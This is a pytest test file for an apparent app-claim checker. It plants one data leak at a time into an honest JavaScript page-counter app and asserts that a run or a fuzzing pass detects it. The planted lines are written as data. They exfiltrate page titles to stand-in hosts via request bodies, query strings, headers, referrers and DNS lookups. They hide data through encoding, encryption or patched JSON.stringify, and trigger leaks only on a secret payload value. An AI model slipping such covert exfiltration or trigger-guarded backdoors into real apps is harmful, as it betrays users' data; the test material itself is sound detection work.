"""Leaky twins in JavaScript: an honest app with one leak planted, and the claim that it breaks is broken."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import pytest
from tests.node.conftest import MakeApp
from tests.node.stories import play

from forgesim.claims.judge import broken
from forgesim.claims.kit import Outcome
from forgesim.manifest.load import load_app
from forgesim.testing.kit import Forge

pytestmark = pytest.mark.node

STORES, LOGS, SENDS = "stores_only_aggregates", "logs_hold_no_content", "sends_only_declared"
REACHES, READS, WRITES = "reaches_only_declared", "reads_only_its_purpose", "only_reads_content"
PEOPLE, PLAIN = "keeps_no_personal_data", "encrypted_in_transit"
ENCODED = "encodeURIComponent(title)"
TO_PARTY = "await fetch('https://api.example.com/count', { method: 'POST', body: JSON.stringify({ words }) });"


@dataclass(frozen=True, slots=True)
class Leak:
    """``code`` stands where the honest app has a comment; ``more`` among its imports; ``instead`` takes the place of
    what it sends."""

    claim: str
    code: str = ""
    more: str = ""
    instead: str | None = None


LEAKS = {
    # --- into storage ---
    "the title as it is": Leak(STORES, "await kvs.set(`page:${id}:title`, title);"),
    "the title beside the count": Leak(STORES, "await kvs.set(`page:${id}`, { words, title });"),
    "the text, cut": Leak(STORES, "await kvs.set(`page:${id}`, { words, text: text.slice(0, 80) });"),
    "base64": Leak(STORES, "await kvs.set(`c:${id}`, Buffer.from(title).toString('base64'));"),
    "hexadecimal": Leak(STORES, "await kvs.set(`c:${id}`, Buffer.from(title).toString('hex'));"),
    "backwards": Leak(STORES, "await kvs.set(`c:${id}`, [...title].reverse().join(''));"),
    "letters as numbers": Leak(STORES, "await kvs.set(`c:${id}`, [...title].map((each) => each.codePointAt(0)));"),
    "deflated": Leak(
        STORES,
        "await kvs.set(`c:${id}`, deflateSync(text).toString('base64'));",
        "import { deflateSync } from 'node:zlib';",
    ),
    "encrypted": Leak(
        STORES,
        "const c = createCipheriv('aes-256-ctr', Buffer.alloc(32, 7), Buffer.alloc(16));\n"
        "  await kvs.set(`c:${id}`, c.update(title, 'utf8', 'base64') + c.final('base64'));",
        "import { createCipheriv } from 'node:crypto';",
    ),
    "a hash in the key": Leak(
        STORES,
        "await kvs.set(`h:${createHash('sha256').update(title).digest('hex')}`, { words });",
        "import { createHash } from 'node:crypto';",
    ),
    "the title as the key": Leak(STORES, "await kvs.set(`t:${title.replace(/[^a-z]/gi, '_')}`, { words });"),
    "a letter a key": Leak(STORES, "for (let i = 0; i < title.length; i += 1) await kvs.set(`l:${i}`, title[i]);"),
    "a word a key, side by side": Leak(
        STORES, "await Promise.all(title.split(' ').map((word, at) => kvs.set(`w:${at}`, word)));"
    ),
    "as a secret": Leak(STORES, "await kvs.setSecret(`s:${id}`, title);"),
    "in a transaction": Leak(STORES, "await kvs.transact().set(`x:${id}`, title).execute();"),
    "after its result is out": Leak(STORES, "setTimeout(() => kvs.set(`late:${id}`, title), 5);"),
    "past the package": Leak(
        STORES,
        "await globalThis.__forge_fetch__({ type: 'kvs' }, '/api/v1/set', { method: 'POST',\n"
        "    body: JSON.stringify({ key: `p:${id}`, value: title }),\n"
        "    headers: { 'content-type': 'application/json' } });",
    ),
    "by a JSON that is not JSON's": Leak(
        SENDS,
        "const { stringify } = JSON;\n"
        "  JSON.stringify = (value, ...rest) => stringify(value?.words ? { ...value, title } : value, ...rest);",
    ),
    "as a property of the page": Leak(
        STORES,
        "await api.asApp().requestConfluence(route`/wiki/api/v2/pages/${id}/properties`,\n"
        "    { method: 'POST', body: JSON.stringify({ key: 'kept', value: title }) });",
    ),
    # --- into logs ---
    "logged": Leak(LOGS, "console.log(title);"),
    "logged as an error": Leak(LOGS, "console.error(new Error(title));"),
    "a table": Leak(LOGS, "console.table([{ title }]);"),
    "written past the console": Leak(LOGS, "process.stdout.write(`${title}\\n`);"),
    "letter by letter": Leak(LOGS, "for (const letter of title) process.stderr.write(letter);"),
    "in an error that ends the call": Leak(LOGS, "throw new Error(`cannot count ${title}`);"),
    "in an error that nobody catches": Leak(LOGS, "Promise.reject(new Error(title)); await null;"),
    "a piece of the text": Leak(LOGS, "console.warn('%o', { text: text.replace(/<[^>]*>/g, ' ').slice(0, 200) });"),
    "who asked": Leak(PEOPLE, "console.log(context.accountId);"),
    "who asked, in storage": Leak(PEOPLE, "await kvs.set(`who:${id}`, context.accountId);"),
    # --- to others ---
    "to the party, in the body": Leak(SENDS, instead=TO_PARTY.replace("{ words }", "{ words, title }")),
    "to the party, in the query": Leak(SENDS, instead=TO_PARTY.replace("count'", f"count?t=' + {ENCODED}")),
    "to the party, in the path": Leak(SENDS, instead=TO_PARTY.replace("count'", f"count/' + {ENCODED}")),
    "to the party, in a header": Leak(
        SENDS, instead=TO_PARTY.replace("'POST'", f"'POST', headers: {{ 'x-t': btoa({ENCODED}) }}")
    ),
    "to the party, as where one comes from": Leak(
        SENDS, instead=TO_PARTY.replace("'POST'", f"'POST', referrer: 'https://api.example.com/' + {ENCODED}")
    ),
    "to the party, in how often": Leak(SENDS, "for (const _ of title) await fetch('https://api.example.com/count');"),
    "to the party, by another road": Leak(
        SENDS,
        "await new Promise((done) => {\n"
        "    const asked = request('https://api.example.com/count', { method: 'POST' }, done);\n"
        "    asked.on('error', done); asked.end(JSON.stringify({ title })); });",
        "import { request } from 'node:https';",
    ),
    "to a stranger": Leak(REACHES, "await fetch('https://elsewhere.example.net/').catch(() => null);"),
    "to a stranger by a module loaded late": Leak(
        REACHES,
        "const { get } = await import('node:https');\n"
        "  await new Promise((done) => get(`https://elsewhere.example.net/${id}`, done).on('error', done));",
    ),
    "in the clear": Leak(PLAIN, "await fetch('http://api.example.com/count', { method: 'POST' }).catch(() => null);"),
    "in a name that is looked up": Leak(
        REACHES,
        "await lookup(`${id}.elsewhere.example.net`).catch(() => null);",
        "import { lookup } from 'node:dns/promises';",
    ),
    # --- of the product ---
    "all pages for one": Leak(READS, "await api.asUser().requestConfluence(route`/wiki/api/v2/pages`);"),
    "as the app, what its user may not see": Leak(
        "reads_only_when_asked", "await api.asUser('712020:other').requestConfluence(route`/wiki/api/v2/pages/${id}`);"
    ),
    "a write": Leak(
        WRITES,
        "await api.asUser().requestConfluence(route`/wiki/api/v2/pages/${id}`,\n"
        "    { method: 'PUT', body: JSON.stringify({ id, title: 'mine' }) });",
    ),
}  # fmt: skip


def plant(app: Path, leak: Leak) -> Path:
    source = app / "src" / "index.js"
    text = source.read_text()
    if leak.instead is not None:
        assert TO_PARTY in text
        text = text.replace(TO_PARTY, leak.instead)
    text = text.replace("// more imports", leak.more).replace("// what it does beside", leak.code)
    source.write_text(text)
    return app


def broken_by_a_run(app: Path) -> set[str]:
    return {verdict.claim for verdict in broken(play(app).ledger, load_app(app).trust)}


def test_the_honest_app_breaks_nothing(js_app: MakeApp) -> None:
    assert broken_by_a_run(js_app("counter")) == set()


@pytest.mark.parametrize("leak", LEAKS.values(), ids=LEAKS.keys())
def test_one_run_shows_a_leak(js_app: MakeApp, leak: Leak) -> None:
    assert leak.claim in broken_by_a_run(plant(js_app("counter"), leak))


HIDDEN = {
    "a letter as the count": Leak(STORES, "await kvs.set(`page:${id}`, { words: title.codePointAt(0) });"),
    "a letter in a log": Leak(LOGS, "console.log(`took ${title.codePointAt(1)} ms`);"),
    "a letter as what is sent": Leak(SENDS, instead=TO_PARTY.replace("{ words }", "{ words: title.codePointAt(0) }")),
    "what it showed before": Leak(
        "tenants_are_apart", "globalThis.before ??= title; shown = `${words} ${globalThis.before}`;"
    ),
    "what an answer kept that came too late": Leak(
        "tenants_are_apart",
        "shown = `${words} ${globalThis.before}`; kvs.get('x').then(() => { globalThis.before = title; }, () => null);",
    ),
}


KEEP = "await kvs.set(`page:${id}:title`, title);"
GUARDED = {
    "a value": f"if (payload.mode === 'quarterly-export-7') {KEEP}",
    "a case": f"switch (payload.mode) {{ case 'all': break; case 'quarterly-export-7': {KEEP} }}",
    "one of a list": f"if (['quarterly-export-7', 'yearly-8'].includes(payload.mode)) {KEEP}",
    "a beginning": f"if (payload.mode?.startsWith('quarterly-export-')) {KEEP}",
    "a member": f"if ('quarterly-export-7' in payload) {KEEP}",
    "taken apart": f"const {{ of: {{ mode = 'all' }} = {{}} }} = payload; if (mode === 'quarterly-export-7') {KEEP}",
    "two at once": f"payload.mode === 'quarterly-export-7' && payload.depth > 41 && ({KEEP.rstrip(';')});",
    "some of a list": f"if (payload.all?.some(({{ mode }}) => mode === 'quarterly-export-7')) {KEEP}",
    "each of a list": f"for (const each of payload.all ?? []) if (each.mode === 'quarterly-export-7') {KEEP}",
    "a callback": (
        f"const keep = async (each) => {{ if (each === 'quarterly-export-7') {KEEP} }};"
        "  await Promise.all((payload.all ?? []).map(keep));"
    ),
    "by a function": f"const due = (p) => p.mode === 'quarterly-export-7'; if (due(payload)) {{ {KEEP} }}",
}
"""A leak for one payload that no scenario has, by the ways in which JavaScript asks for it."""


@pytest.mark.slow
@pytest.mark.parametrize("code", GUARDED.values(), ids=GUARDED.keys())
def test_exploration_brings_about_what_a_condition_asks_for(forge: Forge, js_app: MakeApp, code: str) -> None:
    app = plant(js_app("counter"), Leak(STORES, code))
    assert broken_by_a_run(app) == set()
    outcomes = {verdict.claim: verdict.outcome for verdict in forge.prove(app, trials=1, plays=24)}
    assert outcomes[STORES] is Outcome.BROKEN


@pytest.mark.slow
@pytest.mark.parametrize("leak", HIDDEN.values(), ids=HIDDEN.keys())
def test_pairs_show_a_leak_of_the_right_form(forge: Forge, js_app: MakeApp, leak: Leak) -> None:
    app = plant(js_app("counter"), leak)
    assert leak.claim not in broken_by_a_run(app)
    outcomes = {verdict.claim: verdict.outcome for verdict in forge.prove(app, trials=2, plays=2)}
    assert outcomes[leak.claim] is Outcome.BROKEN
